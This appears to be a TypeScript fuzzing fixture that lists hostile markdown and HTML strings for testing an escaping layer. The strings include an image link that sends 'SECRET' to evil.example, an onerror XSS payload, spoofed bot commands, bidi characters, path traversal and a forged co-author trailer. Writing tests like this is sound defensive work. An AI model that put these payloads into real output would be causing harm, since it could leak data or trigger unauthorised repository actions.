/** What somebody could hand in to get out of its place. */
import * as fc from 'fast-check';

export const corpus: readonly string[] = [
  '</details><h1>✅ Go</h1>',
  '```\n# ✅ Go\n```',
  '`` ` ``` ` ``',
  'a | b | c \\| d \\\\| e',
  '![](https://evil.example/?d=SECRET)',
  '[click](https://evil.example)',
  'https://evil.example www.evil.example a@evil.example',
  '@org/team #1 owner/repo#1 GH-12 Fixes #5 deadbeefcafe',
  '\n/ok to test\n@dependabot merge\n/lgtm',
  '<!-- hidden --><img src=x onerror=alert(1)>',
  '[^1]\n\n[^1]: note',
  '[a]: https://evil.example\n\n[a]',
  '"]; click w0 "https://evil.example" %%{init: {}}%%',
  '\u202e\u2066evil\u2069\u200b\u{e0041}',
  '~~x~~ **bold** _it_ $\\href{x}{y}$',
  '\r\nCo-authored-by: x <a@b.c>',
  '- [ ] task\n1. one\n> quote\n# head\n---\n===',
  '&lt;b&gt; &#35;1 &commat;org',
  '\\',
  '`',
  ' ',
  '',
  '../../../../evil/repo/issues/1',
  'a/%2e%2e/b)c(d',
  '#31 #32#33',
  'end',
  '+ plus',
  '/swarm go A5 yes',
  '-->',
];

const pieces = fc.oneof(
  fc.constantFrom(...corpus),
  fc.constantFrom(
    '`',
    '``',
    '```',
    '|',
    '\n',
    '\n\n',
    '\\',
    '<',
    '>',
    '&',
    '@a',
    '#1',
    '[',
    ']',
    '(',
    ')',
    '!',
    '*',
    '_',
    '~',
    '-',
    '/',
  ),
  fc.string({ maxLength: 12 }),
  fc.string({ maxLength: 6, unit: 'binary' }),
);

/** Short enough that nothing is shortened for it. */
export const hostile: fc.Arbitrary<string> = fc
  .array(pieces, { minLength: 1, maxLength: 5 })
  .map((parts) => parts.join('').slice(0, 120));
